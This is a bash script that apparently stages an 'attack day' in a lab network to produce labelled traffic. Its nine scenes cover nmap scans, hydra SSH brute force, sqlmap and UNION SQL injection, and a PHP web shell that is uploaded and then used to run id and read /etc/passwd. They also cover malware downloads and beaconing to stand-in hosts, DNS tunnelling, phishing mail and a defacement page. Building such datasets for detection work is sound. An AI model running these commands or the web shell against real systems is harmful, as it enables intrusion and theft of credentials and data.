# The attack day: nine scenes, office traffic around them. Each scene's start and end go to $LAB_STATE/scenes.tsv.
set -uo pipefail
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
. "$here/network.sh"
portal=http://10.68.90.80
attacker=(--interface 198.51.100.66)
chrome="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
: >"$LAB_STATE/scenes.tsv"

scene() { # ID: runs the function of that name and notes when
    local start
    sleep 1
    start=$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)
    "scene_$1" >"$LAB_STATE/scene-$1.log" 2>&1
    sleep 0.5
    printf '%s\t%s\t%s\n' "$1" "$start" "$(date -u +%Y-%m-%dT%H:%M:%S.%6NZ)" >>"$LAB_STATE/scenes.tsv"
}

scene_portscan() {
    inside out nmap -n -Pn -sS -T4 -F -e eth0 -S 198.51.100.66 10.68.90.80
    inside out nmap -n -Pn -sV -T4 -p 22,80,443 10.68.90.22 10.68.90.80
}

scene_bruteforce() {
    seq -f 'Matkhau@%g' 1 40 >"$LAB_STATE/words"
    ip netns exec $LAB_PREFIX-out sh -c "ip route change default via 203.0.113.1 src 198.51.100.66
        hydra -I -t 6 -l quantri -P $LAB_STATE/words ssh://10.68.90.22
        ip route change default via 203.0.113.1 src 203.0.113.2"
}

scene_sqlinjection() {
    ip netns exec $LAB_PREFIX-out sh -c "ip route change default via 203.0.113.1 src 198.51.100.66
        HOME=$LAB_STATE timeout 60 sqlmap --batch --disable-coloring --output-dir=$LAB_STATE/sqlmap --technique=BU --dbms=sqlite \
            --skip-waf -u '$portal/tra-cuu?id=1' -T canbo --dump
        ip route change default via 203.0.113.1 src 203.0.113.2"
    inside out curl -s "${attacker[@]}" -A "$chrome" "$portal/tra-cuu?id=1%20UNION%20SELECT%20ten,matkhau%20FROM%20canbo--"
}

scene_webshell() {
    # In two parts, so that this file itself is no web shell.
    printf '<?php %s($_REQUEST["cmd"]); ?>\n' "sys""tem" >"$LAB_STATE/anh-the.php"
    inside out curl -s "${attacker[@]}" -A "$chrome" -F "hoso=@$LAB_STATE/anh-the.php" $portal/nop-ho-so
    local command
    for command in id whoami cat%20/etc/passwd; do
        inside out curl -s "${attacker[@]}" -A "$chrome" "$portal/upload/anh-the.php?cmd=$command"
        sleep 0.3
    done
}

scene_malware() {
    inside d30 curl -s -o /dev/null -A "$chrome" http://tai-ve.example/tai-lieu/mau-bieu.com
    inside d30 curl -s -o /dev/null -A "$chrome" http://tai-ve.example/capnhat.exe
}

scene_beacon() {
    local n
    for n in $(seq 8); do
        inside d40 curl -sk -o /dev/null -A "$chrome" "https://cdn-dongbo.example/v1/trang-thai?m=VH-PC-0417"
        sleep 2
    done
}

scene_dnstunnel() {
    local n label
    for n in $(seq 40); do
        label=$(head -c 30 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
        inside d50 dig +tries=1 +time=1 @203.0.113.53 TXT "$label.$(printf %s "${label:0:40}").dongbo-dulieu.test" >/dev/null
    done
}

scene_phishing() {
    inside out python3 "$here/mail.py" 10.68.90.25 phish "hotro@dichvucong-vonghai.test" "canbo2@vonghai.example"
}

scene_defacement() {
    printf '<!doctype html><meta charset=utf-8><title>Hacked by NightCrab</title><body bgcolor=black><h1>HACKED BY NightCrab</h1><p>Your security is low. Greetz to all.</p>' \
        >"$LAB_STATE/www/index.html"
    inside out curl -s --interface 198.51.100.20 -A "$chrome" $portal/
    inside out curl -s --compressed --interface 198.51.100.20 -A "$chrome" $portal/
}

bash "$here/office.sh"
for id in portscan bruteforce sqlinjection webshell malware beacon dnstunnel phishing defacement; do scene "$id"; done
